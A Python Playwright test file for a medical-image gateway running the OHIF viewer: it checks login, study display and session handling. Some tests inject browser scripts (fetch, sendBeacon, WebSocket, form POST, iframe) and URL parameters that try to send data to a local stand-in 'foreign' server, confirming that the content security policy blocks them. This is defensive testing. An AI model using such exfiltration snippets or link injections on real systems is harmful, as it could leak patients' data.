"""Protects what a radiologist sees in OHIF: the real viewer, installed by the real command, in a real
browser, shows this gateway's studies; it asks nothing in vain, and nothing of any other host,
whatever a link to it says."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Response, expect, sync_playwright

from tests.acceptance.conftest import CHROMIUM_ARGUMENTS
from tests.servers import require_program, wait_until
from tests.servers.gateway import PASSWORD, GatewayPlace
from tests.servers.ohif import require_ohif

SAMPLES = Path(__file__).parents[2] / "sample_dicom"
PICTURE_DEADLINE_S = 30
SOFTWARE_WEBGL = ("--use-gl=angle", "--use-angle=swiftshader", "--enable-unsafe-swiftshader")

# The colours in the largest canvas, looked at in a small copy.
COLOURS = """() => {
  const canvases = [...document.querySelectorAll("canvas")].filter(c => c.width > 100);
  const counts = canvases.map(canvas => {
    const copy = document.createElement("canvas");
    copy.width = copy.height = 64;
    const context = copy.getContext("2d");
    context.drawImage(canvas, 0, 0, 64, 64);
    const pixels = new Uint32Array(context.getImageData(0, 0, 64, 64).data.buffer);
    return new Set(pixels).size;
  });
  return Math.max(0, ...counts);
}"""
END = b"end of the test"
EMPTY_PAGE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n"
SENDING_MS = 300
GREY_LEVELS = 32
"""More than any picture of an error has, fewer than any of these images."""


@dataclass
class Watched:
    """A page and everything that went wrong in it."""

    page: Page
    origin: str
    failed: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def watch(self) -> None:
        """Take note of every answer, violation and error from now on."""
        self.page.on("response", self._answered)
        self.page.on("console", self._told)
        self.page.on("pageerror", lambda error: self.violations.append(str(error)))

    def _answered(self, response: Response) -> None:
        parts = urlsplit(response.url)
        if parts.scheme in ("blob", "data"):
            return
        self.asked.append(parts.path)
        if f"{parts.scheme}://{parts.netloc}" != self.origin:
            self.foreign.append(response.url)
        if response.status >= 400:
            self.failed.append(f"{response.status} {response.url}")

    def _told(self, message: ConsoleMessage) -> None:
        if message.type == "error" or "Content Security Policy" in message.text:
            self.violations.append(message.text)

    def log_in(self, where: str) -> None:
        """Open an address of the gateway as somebody who has to log in first."""
        self.page.goto(self.origin + where)
        self.give_password()

    def give_password(self) -> None:
        """Fill in the login form that is shown."""
        self.page.fill("input[name=username]", "admin")
        self.page.fill("input[name=password]", PASSWORD)
        self.page.click("main button")

    def shows_a_picture(self) -> None:
        """Assert that a viewport shows more than one colour before the deadline."""
        # Not wait_for_function, which needs what the content security policy forbids.
        assert wait_until(lambda: self.page.evaluate(COLOURS) >= GREY_LEVELS, PICTURE_DEADLINE_S)

    def had_no_trouble(self) -> None:
        """Assert that all requests were answered, by this host, and nothing was blocked."""
        assert self.failed == []
        assert self.foreign == []
        assert self.violations == []


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayPlace]:
    place = GatewayPlace(
        tmp_path_factory.mktemp("gateway"),
        settings={"PACS_GATEWAY_OHIF__FOLDER": str(require_ohif())},
    )
    files = sorted(str(path) for path in SAMPLES.glob("*/*.dcm"))
    assert place.call("import", *files).returncode == 0
    with place.running("web"):
        yield place


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = require_program("chromium", "apt install chromium")
    arguments = [a for a in CHROMIUM_ARGUMENTS if a != "--disable-gpu"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium, args=[*arguments, *SOFTWARE_WEBGL]
        )
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def reader(place: GatewayPlace, browser: Browser) -> Iterator[Watched]:
    """A radiologist who has logged in on the way to OHIF's list."""
    context = browser.new_context(viewport={"width": 1200, "height": 800}, locale="en-GB")
    watched = Watched(context.new_page(), f"http://127.0.0.1:{place.web_port}")
    watched.watch()
    watched.log_in("/ohif/")
    yield watched
    context.close()


@pytest.fixture
def watched(reader: Watched) -> Watched:
    """The radiologist, with nothing gone wrong so far."""
    for kept in (reader.failed, reader.foreign, reader.violations, reader.asked):
        kept.clear()
    return reader


def study_of(place: GatewayPlace, modality: str) -> str:
    """Return the UID of the first study with a modality, as OHIF would find it."""
    status, body = place.get(f"/dicom-web/studies?ModalitiesInStudy={modality}")
    assert status == 200
    return str(json.loads(body)[0]["0020000D"]["Value"][0])


def test_the_list_after_the_login_shows_the_studies(reader: Watched) -> None:
    page = reader.page
    expect(page).to_have_url(f"{reader.origin}/ohif/")
    expect(page.get_by_text("MRI sọ não")).to_be_visible(timeout=PICTURE_DEADLINE_S * 1000)
    assert page.get_by_text("CT ngực có tiêm").count() == 2
    # Programs that try viewers look for this number, as OHIF's own tests do.
    expect(page.locator("[data-cy=num-studies]")).to_have_text("5")
    assert page.evaluate("document.cookie").count("i18next=vi") == 1
    reader.had_no_trouble()


@pytest.mark.parametrize(
    ("modality", "text"),
    [("MR", "MRI sọ não"), ("DX", "X-quang ngực thẳng"), ("US", "Siêu âm ổ bụng")],
)
def test_a_study_opens(place: GatewayPlace, watched: Watched, modality: str, text: str) -> None:
    watched.page.goto(f"{watched.origin}/ohif/viewer?StudyInstanceUIDs={study_of(place, modality)}")
    watched.shows_a_picture()
    expect(watched.page.get_by_text(text).first).to_be_visible()
    assert any("/frames/" in path for path in watched.asked)
    assert any(path.endswith("/thumbnail") for path in watched.asked)
    watched.had_no_trouble()


def test_a_colour_cine_moves_through_its_frames(place: GatewayPlace, watched: Watched) -> None:
    watched.page.goto(f"{watched.origin}/ohif/viewer?StudyInstanceUIDs={study_of(place, 'US')}")
    watched.shows_a_picture()
    counter = watched.page.get_by_text("(1/24)")
    expect(counter).to_be_visible()
    watched.page.locator(".cornerstone-canvas").first.hover()
    watched.page.mouse.wheel(0, 200)
    expect(counter).not_to_be_visible()
    assert any(path.endswith("/frames/2") for path in watched.asked)
    watched.had_no_trouble()


def test_a_compressed_stack_is_cut_in_three_planes(place: GatewayPlace, watched: Watched) -> None:
    """JPEG-LS is decoded by WebAssembly in workers, and a volume is built of all slices."""
    study = study_of(place, "SR")
    watched.page.goto(
        f"{watched.origin}/ohif/viewer?StudyInstanceUIDs={study}&hangingProtocolId=mpr"
    )
    watched.shows_a_picture()
    expect(watched.page.locator(".cornerstone-canvas")).to_have_count(3)
    assert sum("/frames/" in path for path in watched.asked) >= 24
    assert any(path.endswith(".wasm") for path in watched.asked)
    watched.had_no_trouble()


def test_scripts_are_fetched_once(place: GatewayPlace, watched: Watched) -> None:
    watched.page.goto(f"{watched.origin}/ohif/viewer?StudyInstanceUIDs={study_of(place, 'MR')}")
    watched.shows_a_picture()
    fetched = watched.page.evaluate(
        "performance.getEntriesByType('resource').filter("
        "e => e.name.includes('.bundle.') && e.transferSize > 0).map(e => e.name)"
    )
    assert [name for name in fetched if not name.endswith("app.bundle.css")] == []


def test_a_session_that_ends_meanwhile_leads_to_the_login_and_back(
    place: GatewayPlace, browser: Browser, watched: Watched
) -> None:
    # In a context of its own, since the tests after this one need the reader's session.
    context = browser.new_context()
    visitor = Watched(context.new_page(), watched.origin)
    visitor.log_in("/ohif/")
    row = visitor.page.get_by_text("MRI sọ não")
    expect(row).to_be_visible(timeout=PICTURE_DEADLINE_S * 1000)
    context.clear_cookies()
    # The list asks for the series of the study that is unfolded.
    row.click()
    visitor.page.wait_for_url("**/login?next=*")
    assert quote("/ohif", safe="") in visitor.page.url
    visitor.give_password()
    expect(visitor.page).to_have_url(f"{visitor.origin}/ohif/")
    row.click()
    visitor.page.get_by_role("link", name="Basic Viewer").click()
    study = f"viewer?StudyInstanceUIDs={study_of(place, 'MR')}"
    expect(visitor.page).to_have_url(f"{visitor.origin}/ohif/{study}")
    context.close()


@dataclass
class Listener:
    """A foreign server that takes note of what it is told."""

    port: int
    heard: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        """Return its address."""
        return f"http://127.0.0.1:{self.port}/x.json"


@contextmanager
def foreign_server() -> Iterator[Listener]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        listener = Listener(server.getsockname()[1])
        thread = threading.Thread(target=_listen, args=(server, listener))
        thread.start()
        try:
            yield listener
        finally:
            # Connections are served in their order, so that nothing before this one is missed.
            with socket.create_connection(("127.0.0.1", listener.port)) as last:
                last.sendall(END)
            thread.join()


def _listen(server: socket.socket, listener: Listener) -> None:
    while True:
        connection, _ = server.accept()
        with connection:
            connection.settimeout(1)
            try:
                said = connection.recv(1000)
                connection.sendall(EMPTY_PAGE)
            except OSError:
                said = b""
        if said == END:
            return
        # Browsers open connections beforehand and say nothing on them.
        if said:
            listener.heard.append(said)


@pytest.mark.parametrize(
    "link",
    [
        "?configUrl={url}",
        "?datasources=dicomjson&url={url}",
        "?customization={url}",
        "viewer/dicomjson?url={url}",
        "viewer/dicomwebproxy?url={url}",
        "viewer?url={url}&StudyInstanceUIDs={study}",
        "viewer?configUrl={url}&customization={url}&StudyInstanceUIDs={study}",
        "viewer?StudyInstanceUIDs={url}",
        "microscopy/dicomjson?url={url}",
        "localbasic?url={url}",
    ],
)
def test_no_link_makes_the_viewer_talk_to_another_host(
    place: GatewayPlace, watched: Watched, link: str
) -> None:
    page = watched.page
    with foreign_server() as foreign:
        address = link.format(url=quote(foreign.url, safe=""), study=study_of(place, "DX"))
        page.goto(f"{watched.origin}/ohif/{address}")
        page.wait_for_load_state("networkidle")
        opened = page.locator("#root").count() == 1
        assert not (opened and str(foreign.port) in page.url)
    assert foreign.heard == []
    assert watched.foreign == []


ATTEMPTS = {
    "fetch": "fetch(url, {mode: 'no-cors'}).catch(() => 0)",
    "image": "new Image().src = url",
    "import": "import(url).catch(() => 0)",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "socket": "new WebSocket(url.replace('http', 'ws')).readyState",
    "form": "document.body.append(form), form.submit()",
    "frame": "document.body.append(frame)",
}


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_the_browser_stops_what_a_script_in_the_viewer_would_send_elsewhere(
    watched: Watched, attempt: str
) -> None:
    """Even a viewer that is led astray cannot send a patient's data to another host."""
    script = f"""url => {{
        const form = Object.assign(document.createElement("form"), {{action: url, method: "POST"}});
        const frame = Object.assign(document.createElement("iframe"), {{src: url}});
        try {{ return {attempt}; }} catch (error) {{ return 0; }}
    }}"""
    page = watched.page
    with foreign_server() as elsewhere, foreign_server() as foreign:
        page.goto(elsewhere.url)
        page.evaluate(script, foreign.url)
        page.wait_for_timeout(SENDING_MS)
    assert foreign.heard, "This attempt reaches nobody from any page, so it shows nothing."
    with foreign_server() as foreign:
        page.goto(f"{watched.origin}/ohif/notfoundstudy")
        page.evaluate(script, foreign.url)
        page.wait_for_timeout(SENDING_MS)
    assert foreign.heard == []
